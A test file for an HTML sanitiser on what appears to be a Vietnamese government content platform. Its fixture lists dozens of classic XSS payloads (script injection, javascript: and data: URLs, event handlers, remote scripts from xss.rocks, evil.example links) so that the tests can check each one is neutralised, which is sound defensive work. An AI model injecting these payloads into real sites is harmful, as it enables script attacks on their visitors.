import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { richTextToPlain, richTextWordCount, sanitizeRichText } from '../../src/platform/rich-text.ts';

/** Classic payloads (OWASP filter-evasion cheat sheet, PortSwigger, mutation XSS). */
const XSS_PAYLOADS: string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//xss.rocks/xss.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/xss src="http://xss.rocks/xss.js"></script>',
  '<<script>alert("XSS");//<</script>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<IMG SRC=JaVaScRiPt:alert(\'XSS\')>',
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<img src="/media/a.jpg" onload="alert(1)" ONERROR = "alert(2)">',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img srcset="https://x.vn/a.jpg 1x, javascript:alert(1) 2x" src="https://x.vn/a.jpg">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  '<a href="javascript:alert(1)">bấm</a>',
  '<a href="jav&#x09;ascript:alert(1)">bấm</a>',
  '<a href="jav&#x0A;ascript:alert(1)">bấm</a>',
  '<a href=" &#14;  javascript:alert(1)">bấm</a>',
  '<a href="JaVaScRiPt:alert(1)">bấm</a>',
  '<a href="javascript&colon;alert(1)">bấm</a>',
  '<a href="&#106;avascript:alert(1)">bấm</a>',
  '<a href="vbscript:msgbox(1)">bấm</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">bấm</a>',
  '<a href="DATA:text/html,<script>alert(1)</script>">bấm</a>',
  '<a href="https://example.com" onclick="alert(1)" onmouseover=alert(2) style="position:fixed">bấm</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<p style="background-image:url(javascript:alert(1))">đoạn</p>',
  '<div style="width: expression(alert(1));">x</div>',
  '<math><maction actiontype="statusline#http://x" xlink:href="javascript:alert(2)">CLICKME</maction></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<form action="javascript:alert(1)"><input type="submit" formaction="javascript:alert(2)"><button onclick=alert(3)>x</button></form>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<base href="javascript:alert(1)//">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
  '<textarea><img title="</textarea><img src onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src onerror=alert(1)>"></title>',
  '<xmp><img title="</xmp><img src onerror=alert(1)>"></xmp>',
  '<template><img src=x onerror=alert(1)></template>',
  '<table><td background="javascript:alert(1)">ô</td></table>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<table><tr><th onmouseover="alert(1)" colspan="2;alert(1)">x</th></tr></table>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<p>a<!--[if gte IE 4]><script>alert(1)</script><![endif]-->b</p>',
  '<div id="x" class="y" onclick="alert(1)">nội dung</div>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<a href="#" target="_blank" rel="opener">mở</a>',
  '<img src="http://tracker.example/a.gif">',
  '<img src="//evil.example/a.gif">',
  '<img src="/media/../api/logout">',
  '<img src="/etc/passwd">',
  '<a href="//evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a/href="javascript:alert(1)">x</a>',
  '<a href=javascript:alert(1)>x</a>',
  '<p onclick=alert(1)//>x</p>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '"><script>alert(1)</script>',
  '\'><img src=x onerror=alert(1)>',
  '<select><option><img src=x onerror=alert(1)></option></select>',
  '<p title="&lt;img src=x onerror=alert(1)&gt;">Tiêu đề</p>',
];

/** Tags and attributes the sanitiser may emit. */
const ALLOWED: Record<string, string[]> = {
  p: [], br: [], h2: [], h3: [], h4: [], strong: [], b: [], em: [], i: [], u: [], s: [], blockquote: [], ul: [], ol: ['start'], li: [],
  a: ['href', 'title', 'rel'], img: ['src', 'alt', 'width', 'height'], figure: [], figcaption: [],
  table: [], thead: [], tbody: [], tr: [], th: ['colspan', 'rowspan'], td: ['colspan', 'rowspan'], hr: [], code: [], pre: [],
};

const decode = (value: string) =>
  value.replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&#x338;/g, '\u0338').replace(/&amp;/g, '&');

/**
 * Reads the output as a browser would have to: text with no raw '<' or '>', and tags of the
 * exact form `<name attr="value" …>`, `</name>` or `<name … />`. Every tag and attribute must
 * be allowlisted and every URL safe; anything else fails the test.
 */
function assertSafeMarkup(out: string): void {
  const TAG = /<(\/?)([a-z0-9]+)((?: [a-z]+="[^"<>]*")*)( \/)?>/y;
  let i = 0;
  while (i < out.length) {
    const lt = out.indexOf('<', i);
    const text = out.slice(i, lt < 0 ? undefined : lt);
    expect(text, `raw '>' in text of ${JSON.stringify(out)}`).not.toContain('>');
    expect(text.replace(/&(amp|lt|gt|quot|#x338);/g, ''), `stray entity in ${JSON.stringify(out)}`).not.toContain('&');
    if (lt < 0) break;
    TAG.lastIndex = lt;
    const match = TAG.exec(out);
    expect(match, `unexpected markup at ${lt} in ${JSON.stringify(out)}`).not.toBeNull();
    const [, closing, name, attributes] = match!;
    expect(Object.keys(ALLOWED), `tag ${name}`).toContain(name);
    if (closing) expect(attributes).toBe('');
    for (const [, attribute, raw] of attributes!.matchAll(/ ([a-z]+)="([^"]*)"/g)) {
      expect(ALLOWED[name!], `attribute ${attribute} on ${name}`).toContain(attribute);
      const value = decode(raw!);
      if (attribute === 'href') {
        // eslint-disable-next-line no-control-regex
        const probe = value.replace(/[\u0000-\u0020\u007f]/g, '');
        expect(/^(https?:|mailto:|tel:|[^:]*$|[^:]*[/?#])/i.test(probe) && !/^[\\/]{2}/.test(probe), `href ${value}`).toBe(true);
        const scheme = /^([a-z][a-z0-9+.-]*):/i.exec(probe)?.[1]?.toLowerCase();
        if (scheme) expect(['http', 'https', 'mailto', 'tel']).toContain(scheme);
      }
      if (attribute === 'src') expect(value, `src ${value}`).toMatch(/^(\/media\/(?!.*\.\.)[^\s\\]*|https:\/\/[^\s\\/]+.*)$/);
      if (attribute === 'rel') expect(value).toBe('noopener noreferrer');
      if (['width', 'height', 'colspan', 'rowspan'].includes(attribute!)) expect(value).toMatch(/^[1-9]\d{0,4}$/);
      if (attribute === 'start') expect(value).toMatch(/^-?\d+$/);
    }
    i = TAG.lastIndex;
  }
}

describe('sanitizeRichText: XSS corpus', () => {
  it(`neutralises ${XSS_PAYLOADS.length} classic payloads`, () => {
    expect(XSS_PAYLOADS.length).toBeGreaterThanOrEqual(40);
    for (const payload of XSS_PAYLOADS) {
      for (const html of [payload, `<p>Trước ${payload} sau</p>`, `<table><tr><td>${payload}</td></tr></table>`]) {
        const out = sanitizeRichText(html);
        const context = `${JSON.stringify(html)} → ${JSON.stringify(out)}`;
        expect(out, context).not.toMatch(/<script/i);
        expect(out, context).not.toMatch(/\bon\w+\s*=/i);
        expect(out, context).not.toMatch(/javascript\s*:/i);
        expect(out, context).not.toMatch(/vbscript\s*:/i);
        expect(out, context).not.toMatch(/data\s*:/i);
        expect(out, context).not.toMatch(/\sstyle\s*=/i);
        expect(out, context).not.toMatch(/<(svg|math|iframe|object|embed|form|input|button|base|meta|link|style|noscript|template|textarea|title|xmp)\b/i);
        assertSafeMarkup(out);
        expect(sanitizeRichText(out), context).toBe(out);
      }
    }
  });

  it('keeps the text of dropped wrappers but not of script-like elements', () => {
    expect(sanitizeRichText('<div><span class="x">Xin chào</span></div>')).toBe('Xin chào');
    expect(sanitizeRichText('<p>a<script>var x = "bí mật";</script>b</p>')).toBe('<p>ab</p>');
    expect(sanitizeRichText('<p>a<style>p{}</style><svg><text>vẽ</text></svg><math><mi>x</mi></math>b</p>')).toBe('<p>ab</p>');
    expect(sanitizeRichText('<a href="javascript:alert(1)">Liên kết <strong>đậm</strong></a>')).toBe('Liên kết <strong>đậm</strong>');
  });
});

describe('sanitizeRichText: what the editor writes', () => {
  it('keeps TipTap output: headings, marks, lists, quotes, links, figures, tables, code', () => {
    const tiptap = [
      '<h2>Tiêu đề</h2><h3>Mục</h3><h4>Tiểu mục</h4>',
      '<p>Đoạn <strong>đậm</strong>, <b>b</b>, <em>nghiêng</em>, <i>i</i>, <u>gạch chân</u>, <s>gạch ngang</s>, <code>mã</code>.</p>',
      '<blockquote><p>Trích dẫn</p></blockquote>',
      '<ul><li><p>Một</p></li></ul><ol start="3"><li><p>Ba</p></li></ol>',
      '<p><a target="_blank" rel="noopener noreferrer nofollow" class="link" href="https://dichvucong.gov.vn/p/home" title="Cổng">Cổng DVC</a>',
      ' <a href="/ke-hoach/2025#muc-2">mục 2</a> <a href="mailto:vanphong@bacgiang.gov.vn">thư</a> <a href="tel:+842043854000">gọi</a></p>',
      '<figure><img src="/media/abc/640.webp" alt="Ảnh hội nghị" title="x" width="640" height="427" loading="lazy"><figcaption>Chú thích</figcaption></figure>',
      '<p><img src="https://cdn.bacgiang.gov.vn/a.jpg" alt=""></p>',
      '<table style="min-width: 50px"><colgroup><col style="min-width: 25px"></colgroup><tbody><tr><th colspan="1" rowspan="1"><p>A</p></th></tr>',
      '<tr><td colspan="2" rowspan="1" colwidth="120"><p>B</p></td></tr></tbody></table>',
      '<hr><pre><code class="language-js">if (x &lt; 1) {}</code></pre><p>dòng<br>mới</p>',
    ].join('');
    expect(sanitizeRichText(tiptap)).toBe(
      [
        '<h2>Tiêu đề</h2><h3>Mục</h3><h4>Tiểu mục</h4>',
        '<p>Đoạn <strong>đậm</strong>, <b>b</b>, <em>nghiêng</em>, <i>i</i>, <u>gạch chân</u>, <s>gạch ngang</s>, <code>mã</code>.</p>',
        '<blockquote><p>Trích dẫn</p></blockquote>',
        '<ul><li><p>Một</p></li></ul><ol start="3"><li><p>Ba</p></li></ol>',
        '<p><a href="https://dichvucong.gov.vn/p/home" rel="noopener noreferrer" title="Cổng">Cổng DVC</a>',
        ' <a href="/ke-hoach/2025#muc-2">mục 2</a> <a href="mailto:vanphong@bacgiang.gov.vn">thư</a> <a href="tel:+842043854000">gọi</a></p>',
        '<figure><img src="/media/abc/640.webp" alt="Ảnh hội nghị" width="640" height="427" /><figcaption>Chú thích</figcaption></figure>',
        '<p><img src="https://cdn.bacgiang.gov.vn/a.jpg" alt="" /></p>',
        '<table><tbody><tr><th colspan="1" rowspan="1"><p>A</p></th></tr>',
        '<tr><td colspan="2" rowspan="1"><p>B</p></td></tr></tbody></table>',
        '<hr /><pre><code>if (x &lt; 1) {}</code></pre><p>dòng<br />mới</p>',
      ].join(''),
    );
  });

  it('drops images that are not /media/… or https, and bad dimensions and spans', () => {
    expect(sanitizeRichText('<img src="http://a.vn/x.jpg"><img src="data:image/png;base64,AAAA"><img src="//a.vn/x.jpg"><img src="/uploads/x.jpg"><img src="/media/../x">')).toBe('');
    expect(sanitizeRichText('<img src="/media/x.webp" width="100%" height="-5">')).toBe('<img src="/media/x.webp" />');
    expect(sanitizeRichText('<table><tr><td colspan="0" rowspan="99999">x</td></tr></table>')).toBe('<table><tr><td>x</td></tr></table>');
  });

  it('outputs NFC Vietnamese, whether the input was decomposed (NFD) or written with entities', () => {
    const nfd = 'Tiếng Việt: Ủy ban nhân dân xã Đồng Tâm'.normalize('NFD');
    expect(nfd).not.toBe(nfd.normalize('NFC'));
    const out = sanitizeRichText(`<p title="x">${nfd}</p><img src="/media/a.webp" alt="${nfd}">`);
    expect(out).toBe('<p>Tiếng Việt: Ủy ban nhân dân xã Đồng Tâm</p><img src="/media/a.webp" alt="Tiếng Việt: Ủy ban nhân dân xã Đồng Tâm" />');
    expect(out).toBe(out.normalize('NFC'));
    expect(sanitizeRichText('<p>Vie&#x323;&#x302;t Nam &amp; ba&#x300;n</p>')).toBe('<p>Việt Nam &amp; bàn</p>');
  });

  it('keeps markup intact when a combining long solidus follows a tag (NFC would make > into ≯)', () => {
    const out = sanitizeRichText('<p>&#x338;a</p><p>b</p>');
    expect(out).toBe('<p>&#x338;a</p><p>b</p>');
    expect(sanitizeRichText(out)).toBe(out);
  });

  it('removes control characters and lone surrogates', () => {
    expect(sanitizeRichText('<p>a\u0000b\u0007c\ud800d</p>')).toBe('<p>abc\ufffdd</p>');
  });
});

/** HTML-ish strings: allowed and forbidden tags, attributes with URLs, entities, broken markup, Unicode. */
const tagName = fc.constantFrom(
  'p', 'br', 'h2', 'b', 'em', 'a', 'img', 'ul', 'li', 'table', 'tr', 'td', 'th', 'pre', 'code', 'figure', 'blockquote',
  'div', 'span', 'script', 'style', 'svg', 'math', 'noscript', 'iframe', 'textarea', 'title', 'xmp', 'select', 'option', 'template', 'object', 'form',
);
const attributeName = fc.constantFrom('href', 'src', 'title', 'alt', 'onerror', 'onclick', 'style', 'colspan', 'width', 'target', 'rel', 'start', 'class', 'xlink:href');
const attributeValue = fc.oneof(
  fc.constantFrom('javascript:alert(1)', 'jav&#x09;ascript:x', ' JAVASCRIPT:x', 'data:text/html,<script>', '/media/a.webp', 'https://x.vn/a?b=1&c=2', '#m', '//evil', '2', 'Tiếng Việt', '"', "'", '</p>', '&quot;', '\u0338'),
  fc.string({ maxLength: 12 }),
);
const quote = fc.constantFrom('"', "'", '');
const openTag = fc
  .tuple(tagName, fc.array(fc.tuple(attributeName, attributeValue, quote), { maxLength: 3 }), fc.boolean())
  .map(([name, attributes, selfClosing]) => `<${name}${attributes.map(([a, v, q]) => ` ${a}=${q}${v}${q}`).join('')}${selfClosing ? '/' : ''}>`);
const closeTag = tagName.map((name) => `</${name}>`);
const text = fc.oneof(
  fc.constantFrom('&amp;', '&lt;', '&gt;', '&nbsp;', '&#x338;', '&#0;', '&bogus;', '<', '>', '&', '"', '<!--', '-->', '<![CDATA[', ']]>', '</', 'e\u0301', '\u0338', 'Đường', ' ', '\n'),
  fc.string({ maxLength: 8 }),
  fc.string({ unit: 'grapheme', maxLength: 6 }),
  fc.string({ unit: 'binary', maxLength: 4 }),
);
const htmlish = fc.array(fc.oneof({ weight: 3, arbitrary: openTag }, { weight: 2, arbitrary: closeTag }, { weight: 3, arbitrary: text }), { maxLength: 40 }).map((parts) => parts.join(''));

describe('sanitizeRichText: properties', () => {
  it('is idempotent, NFC and safe on random HTML-ish input', () => {
    fc.assert(
      fc.property(htmlish, (html) => {
        const once = sanitizeRichText(html);
        expect(sanitizeRichText(once)).toBe(once);
        expect(once).toBe(once.normalize('NFC'));
        assertSafeMarkup(once);
      }),
      { numRuns: 3000 },
    );
  });

  it('is idempotent on arbitrary strings', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (html) => {
        const once = sanitizeRichText(html);
        expect(sanitizeRichText(once)).toBe(once);
      }),
      { numRuns: 1000 },
    );
  });
});

describe('richTextToPlain and richTextWordCount', () => {
  it('turns blocks into lines, cells into spaces, decodes entities and collapses whitespace', () => {
    const html = '<h2>Tiêu đề</h2><p>Đoạn   một&nbsp;có <b>chữ</b>\n đậm &amp; &lt;thẻ&gt; "trích"</p><ul><li>a</li><li>b</li></ul><table><tr><td>ô 1</td><td>ô 2</td></tr></table><p>dòng<br>mới</p><figure><img src="/media/a.webp" alt="ảnh"><figcaption>Chú thích</figcaption></figure>';
    expect(richTextToPlain(html)).toBe('Tiêu đề\nĐoạn một có chữ đậm & <thẻ> "trích"\na\nb\nô 1 ô 2\ndòng\nmới\nChú thích');
  });

  it('drops what the sanitiser drops and returns NFC', () => {
    expect(richTextToPlain('<script>alert(1)</script><p>Vie\u0323\u0302t</p><style>x</style>')).toBe('Việt');
    expect(richTextToPlain('')).toBe('');
    expect(richTextToPlain('<p> </p><p></p>')).toBe('');
  });

  it('counts words (Vietnamese syllables), ignoring punctuation-only tokens', () => {
    expect(richTextWordCount('<p>Ủy ban nhân dân xã — năm 2024.</p><ul><li>Một</li><li>hai</li></ul>')).toBe(9);
    expect(richTextWordCount('<p> – … </p>')).toBe(0);
    expect(richTextWordCount('')).toBe(0);
  });
});
